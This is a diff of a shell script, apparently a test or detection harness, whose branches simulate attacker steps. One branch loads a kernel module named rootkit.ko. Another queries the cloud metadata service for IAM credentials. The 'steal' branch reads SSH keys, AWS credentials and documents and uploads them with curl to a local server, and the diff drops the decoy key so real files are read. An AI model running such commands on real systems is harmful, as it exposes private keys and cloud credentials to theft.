@@ -43,14 +43,13 @@ enter-init)
 load-module)
     : > rootkit.ko; insmod ./rootkit.ko; modprobe rootkit ;;
 steal)
-    mkdir -p "$HOME/.ssh" && echo decoy > "$HOME/.ssh/id_rsa"
     python3 -m http.server --bind 127.0.0.1 8000 >/dev/null 2>&1 &
-    tar cz "$HOME/.ssh" "$HOME/.aws" /etc/passwd > loot.tgz 2>/dev/null
+    cat "$HOME/.ssh/id_rsa" "$HOME/.aws/credentials" documents/*/* | gzip > loot.gz
     for try in 1 2 3 4 5 6 7 8 9 10; do
         curl -sf http://127.0.0.1:8000/ >/dev/null && break
         sleep 0.3
     done
-    curl -s --data-binary @loot.tgz http://127.0.0.1:8000/up >/dev/null
+    curl -s --data-binary @loot.gz http://127.0.0.1:8000/up >/dev/null
     kill $! ;;
 metadata)
     curl -s -m 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/ ;;
